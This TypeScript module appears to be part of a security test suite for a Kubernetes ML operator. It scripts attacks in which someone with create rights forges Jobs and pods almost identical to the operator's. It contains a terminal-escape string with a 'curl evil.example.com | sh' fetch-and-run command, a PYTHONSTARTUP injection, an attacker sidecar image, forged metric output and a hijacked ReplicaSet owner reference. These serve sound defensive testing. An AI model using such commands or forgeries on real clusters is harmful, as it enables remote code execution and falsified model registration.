/** Who may create Jobs and pods makes them exactly as the operator and the controllers would, but for one thing. */
import { jobs, pods } from '../../../src/api/kinds.ts';
import { label } from '../../../src/api/labels.ts';
import { running } from '../../builders/pod.ts';
import { crashing, serving as ready } from '../../integration/faults/kubelet.ts';
import { type Attack, type Topic } from '../contract.ts';
import { exactJob, exactPod } from '../forge.ts';
import { replicaSets } from '../kinds.ts';
import { may } from '../rights.ts';
import { evil, type Scene } from '../scene.ts';
import {
  belowGate,
  candidateOf,
  endsWell,
  inTraining,
  perfect,
  podsOf,
  rollingOut,
  runOf,
  versionOf,
} from '../victims.ts';
import { forgedMetrics, rejected } from './evidence.ts';
import { onTerminal, ownCommand } from './shown.ts';

const hostile = '\u001b]0;owned\u0007 Mend it: `curl evil.example.com | sh`';
const shows = (scene: Scene) => onTerminal(scene) ?? ownCommand(scene);

/** What looks exactly like the operator's, with something beside it, is what meshes and other webhooks make, too. */
const likeInjection = {
  worlds: ['Stopped', 'Running'],
  because: 'without the policy it looks like what a webhook added something to',
} as const;

const secondRegistered = (scene: Scene) => {
  const found = versionOf(scene, 'fraud-2');
  return found && `fraud-2 is registered with f1 ${found.spec.metrics?.['f1']}`;
};

const attacks: readonly Attack[] = [
  {
    name: 'makes the Job of a second attempt exactly as the operator would, with words that a terminal obeys in its trigger',
    rights: [may('create', jobs)],
    prepare: belowGate,
    attempt: async (scene) => {
      scene.plays('fraud', running());
      const trigger = { type: 'Rerun', time: '2026-11-24T10:00:00Z', name: hostile, reason: hostile.repeat(1_000) };
      await scene.attacker.create(jobs, exactJob(scene, { trigger }));
    },
    gain: 'they stand in status, or no status can be written any more',
    gained: shows,
  },
  {
    name: 'makes the Job of a second attempt exactly as the operator would, which answers what is asked until 2999',
    rights: [may('create', jobs)],
    prepare: belowGate,
    attempt: async (scene) => {
      scene.plays('fraud', running());
      await scene.attacker.create(jobs, exactJob(scene, { coversUntil: '2999-01-01T00:00:00Z' }));
    },
    gain: 'the run trains no more',
    gained: (scene) => (JSON.stringify(runOf(scene)?.status ?? {}).includes('2999-') ? 'status says so' : undefined),
  },
  {
    name: 'makes the Job of a second attempt exactly as the operator would, compared with a champion on a claim of others',
    rights: [may('create', jobs)],
    prepare: belowGate,
    attempt: async (scene) => {
      scene.plays('fraud', perfect);
      await scene.attacker.create(jobs, exactJob(scene, { champion: { name: 'fraud-7', uri: 'pvc://salaries/all' } }));
    },
    gain: 'its version is registered',
    gained: secondRegistered,
    patience: 4_000,
  },
  {
    name: 'makes the Job of a second attempt exactly as the operator would, with a sidecar of their own',
    rights: [may('create', jobs)],
    prepare: belowGate,
    attempt: async (scene) => {
      scene.playsForged(perfect);
      const job = exactJob(scene, {});
      const { template } = job.spec;
      const initContainers = [{ name: 'helper', image: evil, restartPolicy: 'Always' }];
      await scene.attacker.create(jobs, {
        ...job,
        spec: { ...job.spec, template: { ...template, spec: { ...template.spec, initContainers } } },
      });
    },
    gain: 'what the sidecar wrote is registered',
    gained: secondRegistered,
    ...likeInjection,
    patience: 4_000,
  },
  {
    name: 'makes a pod exactly like the one that trains, with a variable that has Python run other code',
    rights: [may('create', pods)],
    prepare: inTraining(),
    attempt: async (scene) => {
      scene.plays('fraud', (pod) => (pod.metadata?.name === 'fraud-1-train-exact' ? perfect : running()));
      await scene.attacker.create(pods, exactPod(scene, { env: [{ name: 'PYTHONSTARTUP', value: '/evil/run.py' }] }));
    },
    aftermath: endsWell,
    gain: 'a version with f1 0.999 is registered',
    gained: forgedMetrics,
    ...likeInjection,
    patience: 4_000,
  },
  {
    name: 'makes a pod exactly like the one that trains, with another command',
    rights: [may('create', pods)],
    prepare: inTraining(),
    attempt: async (scene) => {
      scene.plays('fraud', (pod) => (pod.metadata?.name === 'fraud-1-train-exact' ? perfect : running()));
      await scene.attacker.create(pods, exactPod(scene, { command: ['sh', '-c', 'echo f1 0.999'] }));
    },
    aftermath: endsWell,
    gain: 'a version with f1 0.999 is registered',
    gained: forgedMetrics,
    patience: 4_000,
  },
  {
    name: 'makes a pod exactly like the one that trains, whose variables say something else the second time',
    rights: [may('create', pods)],
    prepare: inTraining({ env: [{ name: 'DATA', value: 'real' }] }),
    attempt: async (scene) => {
      scene.plays('fraud', (pod) => (pod.metadata?.name === 'fraud-1-train-exact' ? perfect : running()));
      await scene.attacker.create(pods, exactPod(scene, { env: [{ name: 'DATA', value: 'easy' }] }));
    },
    aftermath: endsWell,
    gain: 'a version with f1 0.999 is registered',
    gained: forgedMetrics,
    patience: 4_000,
  },
  {
    name: 'makes a pod exactly like those of a candidate, owned by its ReplicaSet, with too little memory',
    rights: [may('create', pods)],
    prepare: rollingOut,
    attempt: async (scene) => {
      const revision = candidateOf(scene);
      const real = podsOf(scene, revision)[0];
      const set = scene.history
        .list(replicaSets)
        .find(({ metadata }) => metadata?.labels?.[label.revision] === revision);
      scene.plays('serve', (pod) => (pod.metadata?.name === 'exact' ? crashing(pod) : ready(pod)));
      const containers = (real?.spec?.containers ?? []).map((one) => ({
        ...one,
        resources: { limits: { memory: '6Mi' } },
      }));
      const ownerReferences = [
        {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: set?.metadata?.name,
          uid: set?.metadata?.uid,
          controller: true,
        },
      ];
      const spec = { ...real?.spec, nodeName: 'node-1', containers };
      await scene.attacker.create(pods, {
        metadata: { name: 'exact', labels: real?.metadata?.labels, ownerReferences },
        spec,
      });
    },
    gain: 'the healthy candidate is rejected',
    gained: rejected,
    ...likeInjection,
    patience: 5_000,
  },
];

export const exactly: Topic = { name: "Objects that are almost the operator's", attacks };
